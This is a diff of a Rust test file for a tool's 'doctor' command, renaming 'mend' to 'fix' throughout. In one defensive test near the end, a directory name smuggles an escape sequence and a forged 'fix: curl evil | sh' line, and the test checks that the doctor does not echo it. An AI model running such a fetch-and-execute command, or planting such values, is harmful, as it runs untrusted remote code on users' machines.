@@ -1,10 +1,10 @@
-//! What the doctor finds, and that what it says mends it.
+//! What the doctor finds, and that what it says fixes it.
 
 use std::os::unix::fs::PermissionsExt;
 
 use crate::support::{Machine, mode, replace};
 
-/// The mends that the doctor names, each once, in their order.
+/// The fixes that the doctor names, each once, in their order.
 pub(crate) fn commands(machine: &Machine) -> Vec<String> {
     let ran = machine.run(&["doctor", "--quick"]);
     assert_eq!((ran.code, ran.err()), (1, ""), "{}", ran.out());
@@ -12,11 +12,11 @@ pub(crate) fn commands(machine: &Machine) -> Vec<String> {
     let mut problems = 0;
     for line in ran.out().lines() {
         problems += usize::from(line.starts_with("problem "));
-        if let Some(mend) = line.strip_prefix("         mend: ") {
-            commands.push(mend.to_owned());
+        if let Some(fix) = line.strip_prefix("         fix: ") {
+            commands.push(fix.to_owned());
         }
     }
-    assert_eq!(problems, commands.len(), "a problem without a mend: {}", ran.out());
+    assert_eq!(problems, commands.len(), "a problem without a fix: {}", ran.out());
     let count = if problems == 1 { "1 problem\n".to_owned() } else { format!("{problems} problems\n") };
     assert!(ran.out().contains(&count), "{}", ran.out());
     commands.dedup();
@@ -25,7 +25,7 @@ pub(crate) fn commands(machine: &Machine) -> Vec<String> {
 
 /// Does what the doctor says; then all is well.
 #[track_caller]
-pub(crate) fn mends(machine: &Machine) {
+pub(crate) fn fixes(machine: &Machine) {
     for command in commands(machine) {
         let ran = machine.shell(&command);
         assert_eq!((ran.code, ran.err()), (0, ""), "{command}: {}", ran.out());
@@ -35,7 +35,7 @@ pub(crate) fn mends(machine: &Machine) {
     assert!(ran.out().contains("\nhealthy\n"));
 }
 
-/// The doctor finds `problem`, and what it says mends it.
+/// The doctor finds `problem`, and what it says fixes it.
 #[track_caller]
 pub(crate) fn finds(machine: &Machine, problem: &str) {
     let before = machine.tree();
@@ -43,7 +43,7 @@ pub(crate) fn finds(machine: &Machine, problem: &str) {
     before.is(&machine.tree());
     assert_eq!((ran.code, ran.err()), (1, ""), "{}", ran.out());
     assert!(ran.out().contains(&format!("problem  {problem}")), "{problem}: {}", ran.out());
-    mends(machine);
+    fixes(machine);
 }
 
 fn installed() -> Machine {
@@ -52,26 +52,26 @@ fn installed() -> Machine {
     machine
 }
 
-/// The doctor finds `problem`, which the user mends with an editor.
+/// The doctor finds `problem`, which the user fixes with an editor.
 #[track_caller]
-fn finds_for_an_editor(machine: &Machine, problem: &str, file: &str, mended: &str) {
+fn finds_for_an_editor(machine: &Machine, problem: &str, file: &str, fixed: &str) {
     let ran = machine.run(&["doctor", "--quick"]);
     assert_eq!((ran.code, ran.err()), (1, ""), "{}", ran.out());
     assert!(ran.out().contains(&format!("problem  {problem}")), "{problem}: {}", ran.out());
     let editor = machine.path("editor");
-    replace(&editor, "#!/bin/sh\nfor last; do :; done\ncp \"$HOME/mended\" \"$last\"\n");
-    machine.file("mended", mended);
+    replace(&editor, "#!/bin/sh\nfor last; do :; done\ncp \"$HOME/fixed\" \"$last\"\n");
+    machine.file("fixed", fixed);
     for command in commands(machine) {
         let ran = machine.shell(&format!("EDITOR='{}'; {command}", editor.display()));
         assert_eq!((ran.code, ran.err()), (0, ""), "{command}");
     }
-    assert_eq!(machine.text(file), mended);
+    assert_eq!(machine.text(file), fixed);
     assert_eq!(machine.run(&["doctor", "--quick"]).code, 0);
 }
 
 #[test]
 fn nothing_installed() {
-    finds(&Machine::small(), "programs: nothing is installed in ~/.agent-handoff\n         mend: ");
+    finds(&Machine::small(), "programs: nothing is installed in ~/.agent-handoff\n         fix: ");
 }
 
 #[test]
@@ -162,7 +162,7 @@ fn broken_settings_with_their_line() {
         let good = machine.text(file);
         machine.file(file, broken);
         let ran = machine.run(&["doctor", "--quick"]);
-        assert!(ran.out().contains(&format!("         mend: ${{EDITOR:-vi}} +{line} ")), "{}", ran.out());
+        assert!(ran.out().contains(&format!("         fix: ${{EDITOR:-vi}} +{line} ")), "{}", ran.out());
         finds_for_an_editor(
             &machine,
             &format!("{agent}: ~/{file} is broken: line {line}, column "),
@@ -261,7 +261,7 @@ fn handoffs_of_a_worktree_that_is_gone_and_refused_drafts() {
     );
     assert!(
         ran.out().contains(
-            "note     store: 1 refused draft is in ~/.agent-handoffs/.drafts, yours to mend or delete\n"
+            "note     store: 1 refused draft is in ~/.agent-handoffs/.drafts, yours to fix or delete\n"
         ),
         "{}",
         ran.out()
@@ -319,9 +319,9 @@ fn a_handoff_that_a_later_git_init_cut_off_is_found() {
         "{}",
         ran.out()
     );
-    let mend = ran.out().lines().find_map(|line| line.trim().strip_prefix("mend: ")).unwrap();
-    assert!(mend.ends_with(&format!("/inbox move {part} {top}")), "{mend}");
-    assert_eq!(machine.shell(mend).code, 0);
+    let fix = ran.out().lines().find_map(|line| line.trim().strip_prefix("fix: ")).unwrap();
+    assert!(fix.ends_with(&format!("/inbox move {part} {top}")), "{fix}");
+    assert_eq!(machine.shell(fix).code, 0);
     assert_eq!(machine.run(&["doctor", "--quick"]).code, 0);
 }
 
@@ -329,7 +329,7 @@ fn a_handoff_that_a_later_git_init_cut_off_is_found() {
 fn what_others_wrote_forges_no_finding_and_no_command() {
     let machine = Machine::new();
     machine.install();
-    let evil = machine.world.dir("x\u{1b}[2J\nproblem  store: forged\n         mend: curl evil | sh");
+    let evil = machine.world.dir("x\u{1b}[2J\nproblem  store: forged\n         fix: curl evil | sh");
     let mut command = machine.world.command("handoff-write", &evil);
     command.env("HOME", &machine.home);
     let ran = tests::feed(command, b"# T\n\n## Immediate next action\nGo.\n");
@@ -340,9 +340,8 @@ fn what_others_wrote_forges_no_finding_and_no_command() {
         assert_eq!(ran.code, 1, "{}", ran.out());
         assert!(ran.out().contains("which is gone"), "{}", ran.out());
         assert!(!ran.out().contains('\u{1b}') && !ran.out().contains("\\u001b"), "{}", ran.out());
-        let forged = |line: &str| {
-            line.starts_with("problem  store: forged") || line.starts_with("         mend: curl")
-        };
+        let forged =
+            |line: &str| line.starts_with("problem  store: forged") || line.starts_with("         fix: curl");
         assert!(!ran.out().lines().any(forged), "{}", ran.out());
     }
 }
